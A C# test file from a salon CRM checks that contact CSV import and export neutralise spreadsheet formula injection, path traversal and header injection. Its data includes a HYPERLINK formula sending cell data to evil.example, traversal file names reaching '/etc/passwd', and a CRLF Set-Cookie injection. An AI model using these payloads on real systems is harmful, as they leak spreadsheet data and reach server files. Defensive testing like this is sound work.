using System.Net;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using SalonCrm.Admin.Tests.SignIn;
using SalonCrm.Data.Access;
using SalonCrm.Data.Exchange;
using SalonCrm.Data.Network;

namespace SalonCrm.Admin.Tests.Attacks;

/// <summary>A formula that somebody smuggles in with a contact file, for the spreadsheet of whoever exports.</summary>
public sealed class FormulaRoundTripTests(SomePortal portal) : IClassFixture<SomePortal>
{
    private const string Address = "/access/export/file";

    /// <summary>Path traversal besides: the file's name is a hint of its kind, and no file is looked for or made by it.</summary>
    [Theory]
    [InlineData("../../../wwwroot/evil.csv", "+79165550101")]
    [InlineData(@"..\..\evil.csv", "+79165550102")]
    [InlineData("/etc/passwd\0.csv", "+79165550103")]
    [InlineData("evil\r\nSet-Cookie: evil=1.csv", "+79165550104")]
    public async Task What_comes_in_as_a_formula_goes_out_as_text_and_comes_in_again_as_the_same_client(string name, string phone)
    {
        var imported = await Import($"Фамилия;Имя;Телефон;Метки\n\"=HYPERLINK(\"\"http://evil.example?\"\"&A1)\";@SUM(1+1);{phone};\"-2+3, =1\"\n", name);
        Assert.Equal((1, 0, 0), imported);
        using var head = portal.Browser();
        await head.SignIn((await portal.Account(Role.NetworkHead)).Email);
        await head.TurnOnSecondStep();

        var answer = await head.Post(Address, [("reason", "for the accountant"), ("kind", "Csv"), ("__RequestVerificationToken", await head.Token("/Identity/Account/Manage/ChangePassword"))]);

        Assert.Equal((HttpStatusCode.OK, "clients.csv"), (answer.StatusCode, answer.Content.Headers.ContentDisposition!.FileName));
        var file = Encoding.UTF8.GetString(await answer.Content.ReadAsByteArrayAsync());
        var cells = file.Split(['\n', '\r', ';', ',', '\t']).Select(c => c.Trim('"', ' ', '\uFEFF')).Where(c => c.Length > 0).ToList();
        Assert.Contains(cells, c => c.Contains("HYPERLINK", StringComparison.Ordinal));
        Assert.DoesNotContain(cells, c => "=+-@".Contains(c[0], StringComparison.Ordinal));
        Assert.Empty(Directory.GetFiles(AppContext.BaseDirectory, "evil*", SearchOption.AllDirectories));
        var again = await Import(file, "clients.csv");
        Assert.Equal(0, again.Imported);
    }

    private async Task<(int Imported, int Merged, int Rejected)> Import(string content, string name)
    {
        var salon = (await portal.Services.GetRequiredService<Salons>().View(Actor.Operator)).Expect().Salons[0].Id;
        using var file = new MemoryStream(Encoding.UTF8.GetBytes(content));
        var summary = (await portal.Services.GetRequiredService<ContactImport>().Run(Actor.Operator, file, name, salon, _ => ValueTask.CompletedTask)).Expect();
        return (summary.Imported, summary.Merged, summary.Rejected);
    }
}
